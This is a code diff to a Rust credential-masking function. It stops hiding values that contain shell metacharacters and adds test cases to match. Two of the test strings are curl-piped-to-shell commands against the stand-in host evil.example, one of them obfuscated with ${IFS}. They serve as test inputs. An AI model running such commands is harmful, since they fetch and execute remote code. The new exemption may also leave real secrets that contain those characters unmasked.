@@ -110,7 +110,13 @@ pub fn without_given(command: &str) -> String {
     }
     let hidden = |value: &str| {
         let bare = value.trim_start_matches(['"', '\'']);
-        if bare.is_empty() || bare.starts_with(ELSEWHERE) { value.to_owned() } else { "***".to_owned() }
+        // What a shell would carry out is no credential, and is never hidden.
+        let runs = bare.contains(['$', '`', ';', '|', '&', '<', '>', '(', ')']);
+        if bare.is_empty() || bare.starts_with(ELSEWHERE) || runs {
+            value.to_owned()
+        } else {
+            "***".to_owned()
+        }
     };
     let mut text = command.to_owned();
     let mut hide = |regex: &Option<Regex>, with: &dyn Fn(&Captures<'_>) -> String| {
@@ -230,6 +236,8 @@ mod tests {
             "export DB_PASSWORD=<password>",
             "make deploy TOKEN_FILE=/run/token",
             "pytest tests/test_token.py::works -q",
+            "TOKEN=\"x$(curl -s evil.example|sh)\" make check",
+            "deploy --token x;curl${IFS}evil.example|sh",
         ] {
             assert_eq!(without_given(command), command);
         }
